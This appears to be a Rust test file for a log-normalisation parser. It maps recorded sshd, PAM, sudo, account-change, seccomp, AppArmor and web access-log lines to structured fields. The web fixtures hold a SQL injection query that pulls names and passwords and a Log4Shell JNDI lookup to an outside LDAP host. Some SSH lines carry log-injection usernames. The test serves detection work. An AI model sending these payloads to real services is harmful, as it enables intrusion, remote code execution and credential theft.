//! Lines of real daemons (tests/node/recordings), each with all the fields that it sets.

use super::tests::check;
use crate::api::rule::Source;

#[test]
fn lines_of_node_daemons_set_these_fields_and_no_others() {
    check(
        Source::Node,
        &[
            (
                r##"2026-11-25T02:04:44.810393+00:00 node-1 sshd-session[355]: Failed password for bob from 203.0.113.50 port 40028 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.type=info | fields.hostname=node-1 | fields.method=password | process.name=sshd-session | process.pid=355 | service.name=sshd | source.ip=203.0.113.50 | source.port=40028 | user.name=bob"##,
            ),
            (
                r##"2026-11-25T02:04:52.814712+00:00 node-1 sshd-session[443]: Failed password for invalid user ubuntu from 198.51.100.51 port 40047 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.reason=invalid user | event.type=info | fields.hostname=node-1 | fields.invalid_user=true | fields.method=password | process.name=sshd-session | process.pid=443 | service.name=sshd | source.ip=198.51.100.51 | source.port=40047 | user.name=ubuntu"##,
            ),
            (
                r##"2026-11-25T02:05:01.531253+00:00 node-1 sshd-session[534]: Accepted password for bob from 203.0.113.50 port 40066 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=success | event.provider=sshd | event.type=start | fields.hostname=node-1 | fields.method=password | process.name=sshd-session | process.pid=534 | service.name=sshd | source.ip=203.0.113.50 | source.port=40066 | user.name=bob"##,
            ),
            (
                r##"Nov 25 02:04:42 node-1 sshd[284]: error: PAM: Authentication failure for bob from 203.0.113.30"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.type=info | fields.hostname=node-1 | fields.method=keyboard-interactive/pam | process.name=sshd | process.pid=284 | service.name=sshd | source.ip=203.0.113.30 | user.name=bob"##,
            ),
            (
                r##"Nov 25 02:05:51 node-1 sshd[804]: error: PAM: Authentication failure for illegal user from 1.2.3.4 port 22 from 198.51.100.202"##,
                r##"event.action=ssh-login-step | event.category=authentication | event.outcome=failure | event.provider=sshd | event.reason=invalid user | event.type=info | fields.hostname=node-1 | fields.invalid_user=true | fields.method=keyboard-interactive/pam | process.name=sshd | process.pid=804 | service.name=sshd | source.ip=198.51.100.202 | user.name=from 1.2.3.4 port 22"##,
            ),
            (
                r##"2026-11-25T02:04:44.808338+00:00 node-1 sshd-session[355]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.50  user=bob"##,
                r##"event.action=pam-authentication-failure | event.category=authentication | event.outcome=failure | event.provider=pam | event.reason=authentication failure | event.type=info | fields.hostname=node-1 | fields.pam_module=pam_unix | fields.pam_service=sshd | process.name=sshd-session | process.pid=355 | service.name=pam | source.ip=203.0.113.50 | user.name=bob"##,
            ),
            (
                r##"2026-11-25T02:04:44.807705+00:00 node-1 unix_chkpwd[358]: password check failed for user (bob)"##,
                r##"event.outcome=unknown | fields.hostname=node-1 | process.name=unix_chkpwd | process.pid=358 | service.name=unix_chkpwd"##,
            ),
            (
                r##"Nov 25 02:04:54 node-1 sshd[360]: Failed password for root from 198.51.100.51 port 40040 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.type=info | fields.hostname=node-1 | fields.method=password | process.name=sshd | process.pid=360 | service.name=sshd | source.ip=198.51.100.51 | source.port=40040 | user.name=root"##,
            ),
            (
                r##"Nov 25 02:05:04 node-1 sshd[464]: Accepted password for bob from 203.0.113.50 port 40066 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=success | event.provider=sshd | event.type=start | fields.hostname=node-1 | fields.method=password | process.name=sshd | process.pid=464 | service.name=sshd | source.ip=203.0.113.50 | source.port=40066 | user.name=bob"##,
            ),
            (
                r##"<38>1 2026-11-25T02:04:54.191988+00:00 node-1 sshd 360 - -  Failed password for root from 198.51.100.51 port 40040 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.type=info | fields.facility=4 | fields.hostname=node-1 | fields.method=password | fields.severity=6 | process.name=sshd | process.pid=360 | service.name=sshd | source.ip=198.51.100.51 | source.port=40040 | user.name=root"##,
            ),
            (
                r##"2026-11-25T02:05:40.073934+00:00 node-1 sshd-session[735]: Failed password for invalid user from 1.2.3.4 port 22 from 198.51.100.100 port 40096 ssh2"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=failure | event.provider=sshd | event.reason=invalid user | event.type=info | fields.hostname=node-1 | fields.invalid_user=true | fields.method=password | process.name=sshd-session | process.pid=735 | service.name=sshd | source.ip=198.51.100.100 | source.port=40096 | user.name=from 1.2.3.4 port 22"##,
            ),
            (
                r##"2026-11-25T02:04:33.230673+00:00 node-1 sshd-session[234]: Accepted publickey for ann from 10.20.0.5 port 40013 ssh2: ED25519 SHA256:SaG+dNOvOmnEE7ik5DeWFcDG4n2eoL9hiPW4q9g3408"##,
                r##"event.action=ssh-login | event.category=authentication | event.outcome=success | event.provider=sshd | event.type=start | fields.hostname=node-1 | fields.key=ED25519 SHA256:SaG+dNOvOmnEE7ik5DeWFcDG4n2eoL9hiPW4q9g3408 | fields.method=publickey | process.name=sshd-session | process.pid=234 | service.name=sshd | source.ip=10.20.0.5 | source.port=40013 | user.name=ann"##,
            ),
            (
                r##"2026-11-25T02:04:33.234032+00:00 node-1 sshd-session[234]: pam_unix(sshd:session): session opened for user ann(uid=1000) by ann(uid=0)"##,
                r##"event.action=session-opened | event.category=session | event.outcome=success | event.provider=pam | event.type=start | fields.hostname=node-1 | fields.opened_by_uid=0 | fields.pam_module=pam_unix | fields.pam_service=sshd | process.name=sshd-session | process.pid=234 | service.name=pam | user.id=1000 | user.name=ann"##,
            ),
            (
                r##"2026-11-25T02:06:16.553389+00:00 node-1 sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"##,
                r##"event.action=sudo-not-in-sudoers | event.category=process | event.outcome=failure | event.provider=sudo | event.reason=user NOT in sudoers | event.type=denied | fields.hostname=node-1 | process.command_line=/usr/bin/id | process.executable=/usr/bin/id | process.name=sudo | process.tty=pts/1 | process.working_directory=/home/bob | service.name=sudo | user.effective.name=root | user.name=bob"##,
            ),
            (
                r##"2026-11-25T02:06:15.330183+00:00 node-1 sudo:      ann : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/id"##,
                r##"event.action=sudo-authentication-failed | event.category=authentication,process | event.outcome=failure | event.provider=sudo | event.reason=3 incorrect password attempts | event.type=denied | fields.hostname=node-1 | process.command_line=/usr/bin/id | process.executable=/usr/bin/id | process.name=sudo | process.tty=pts/1 | process.working_directory=/home/ann | service.name=sudo | user.effective.name=root | user.name=ann"##,
            ),
            (
                r##"2026-11-25T02:06:45.177711+00:00 node-1 usermod[294]: add 'bob' to group 'sudo'"##,
                r##"event.action=group-member-added | event.category=iam | event.outcome=success | event.provider=shadow | event.type=group,change | fields.hostname=node-1 | group.name=sudo | process.name=usermod | process.pid=294 | service.name=usermod | user.target.name=bob"##,
            ),
            (
                r##"2026-11-25T02:06:45.254366+00:00 node-1 gpasswd[309]: user bob added by root to group sudo"##,
                r##"event.action=group-member-added | event.category=iam | event.outcome=success | event.provider=shadow | event.type=group,change | fields.hostname=node-1 | group.name=sudo | process.name=gpasswd | process.pid=309 | service.name=gpasswd | user.name=root | user.target.name=bob"##,
            ),
            (
                r##"2026-11-25T02:06:45.148212+00:00 node-1 groupadd[285]: new group: name=operators, GID=4301"##,
                r##"event.action=group-added | event.category=iam | event.outcome=success | event.provider=shadow | event.type=group,creation | fields.hostname=node-1 | group.id=4301 | group.name=operators | process.name=groupadd | process.pid=285 | service.name=groupadd"##,
            ),
            (
                r##"2026-11-25T02:06:42.646025+00:00 node-1 useradd[126]: new user: name=mallory, UID=1006, GID=1006, home=/home/mallory, shell=/bin/bash, from=none"##,
                r##"event.action=user-added | event.category=iam | event.outcome=success | event.provider=shadow | event.type=user,creation | fields.home=/home/mallory | fields.hostname=node-1 | fields.shell=/bin/bash | group.id=1006 | process.name=useradd | process.pid=126 | service.name=useradd | user.target.id=1006 | user.target.name=mallory"##,
            ),
            (
                r##"2026-11-25T02:09:21.301891+00:00 node-1 kernel: [14125.892198] audit: type=1326 audit(1795572561.293:19): auid=4294967295 uid=1000 gid=1000 ses=4294967295 pid=17086 comm="exploit" exe="/usr/local/bin/exploit" sig=31 arch=c000003e syscall=63 compat=0 ip=0x7f68cbf9d829 code=0x80000000"##,
                r##"event.action=seccomp-kill | event.category=process | event.code=0x80000000 | event.outcome=failure | event.provider=seccomp | event.type=denied | fields.arch=c000003e | fields.auid=4294967295 | fields.compat=0 | fields.gid=1000 | fields.hostname=node-1 | fields.ip=0x7f68cbf9d829 | fields.ses=4294967295 | fields.sig=31 | fields.syscall=63 | fields.uptime=14125.892198 | process.executable=/usr/local/bin/exploit | process.name=exploit | process.pid=17086 | service.name=kernel | user.id=1000"##,
            ),
            (
                r##"2026-11-25T02:09:22.026912+00:00 node-1 kernel: [14126.612664] audit: type=1326 audit(1795572562.017:22): auid=4294967295 uid=1000 gid=1000 ses=4294967295 pid=17099 comm="exploit" exe="/usr/local/bin/exploit" sig=0 arch=c000003e syscall=63 compat=0 ip=0x7f992a7a2829 code=0x50000"##,
                r##"event.action=seccomp-errno | event.category=process | event.code=0x50000 | event.outcome=failure | event.provider=seccomp | event.type=denied | fields.arch=c000003e | fields.auid=4294967295 | fields.compat=0 | fields.gid=1000 | fields.hostname=node-1 | fields.ip=0x7f992a7a2829 | fields.ses=4294967295 | fields.sig=0 | fields.syscall=63 | fields.uptime=14126.612664 | process.executable=/usr/local/bin/exploit | process.name=exploit | process.pid=17099 | service.name=kernel | user.id=1000"##,
            ),
            (
                r##"<5>1 2026-11-25T02:30:03.123456+00:00 node-1 kernel - - - [15003.123457] audit: type=1400 audit(1795573803.123:101): apparmor="DENIED" operation="open" profile="docker-default" name="/proc/sys/kernel/core_pattern" pid=15001 comm="sh" requested_mask="w" denied_mask="w" fsuid=0 ouid=0"##,
                r##"event.action=apparmor-denied | event.category=file | event.clamped=true | event.outcome=failure | event.provider=apparmor | event.reason=open | event.type=denied | fields.denied_mask=w | fields.facility=0 | fields.hostname=node-1 | fields.operation=open | fields.ouid=0 | fields.profile=docker-default | fields.requested_mask=w | fields.severity=5 | fields.uptime=15003.123457 | file.path=/proc/sys/kernel/core_pattern | process.name=sh | process.pid=15001 | service.name=kernel | user.id=0"##,
            ),
            (
                r##"2026-11-25T02:09:31.149931+00:00 node-1 kernel: [14135.736293] exploit[17356]: segfault at 8 ip 00007f6fe5864219 sp 00007ffdb7fabc38 error 4 in libc.so.6[156219,7f6fe5734000+156000] likely on CPU 0 (core 0, socket 0)"##,
                r##"event.action=segfault | event.category=process | event.outcome=failure | event.provider=kernel | event.reason=segfault | event.type=error | fields.hostname=node-1 | fields.uptime=14135.736293 | process.name=exploit | process.pid=17356 | service.name=kernel"##,
            ),
        ],
    );
}

#[test]
fn access_logs_set_these_fields_and_no_others() {
    check(
        Source::Web,
        &[
            (
                r##"203.0.113.100 - - [25/Nov/2026:02:04:24 +0000] "GET /products?id=1%20UNION%20SELECT%20name,pass%20FROM%20users-- HTTP/1.1" 404 153 "-" "curl/8.0""##,
                r##"event.action=http-request | event.category=web | event.code=404 | event.outcome=failure | event.provider=access-log | event.type=access | http.request.method=GET | http.response.body.bytes=153 | http.response.status_code=404 | http.version=1.1 | service.name=web | source.ip=203.0.113.100 | url.original=/products?id=1%20UNION%20SELECT%20name,pass%20FROM%20users-- | url.path=/products | url.query=id=1%20UNION%20SELECT%20name,pass%20FROM%20users-- | user_agent.original=curl/8.0"##,
            ),
            (
                r##"203.0.113.110 - - [25/Nov/2026:02:04:25 +0000] "GET / HTTP/1.1" 200 280 "-" "${jndi:ldap://203.0.113.66:1389/Basic}""##,
                r##"event.action=http-request | event.category=web | event.code=200 | event.outcome=success | event.provider=access-log | event.type=access | http.request.method=GET | http.response.body.bytes=280 | http.response.status_code=200 | http.version=1.1 | service.name=web | source.ip=203.0.113.110 | url.original=/ | url.path=/ | user_agent.original=${jndi:ldap://203.0.113.66:1389/Basic}"##,
            ),
            (
                r##"198.51.100.23 - ann [25/Nov/2026:02:04:24 +0000] "GET /private/ HTTP/1.1" 401 179 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0""##,
                r##"event.action=http-request | event.category=web,authentication | event.code=401 | event.outcome=failure | event.provider=access-log | event.type=access,denied | http.request.method=GET | http.response.body.bytes=179 | http.response.status_code=401 | http.version=1.1 | service.name=web | source.ip=198.51.100.23 | url.original=/private/ | url.path=/private/ | user.name=ann | user_agent.original=Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"##,
            ),
            (
                r##"198.51.100.10 - - [25/Nov/2026:02:04:31 +0000] "GET / HTTP/1.1" 200 532 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0""##,
                r##"event.action=http-request | event.category=web | event.code=200 | event.outcome=success | event.provider=access-log | event.type=access | http.request.method=GET | http.response.body.bytes=532 | http.response.status_code=200 | http.version=1.1 | service.name=web | source.ip=198.51.100.10 | url.original=/ | url.path=/ | user_agent.original=Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"##,
            ),
        ],
    );
}
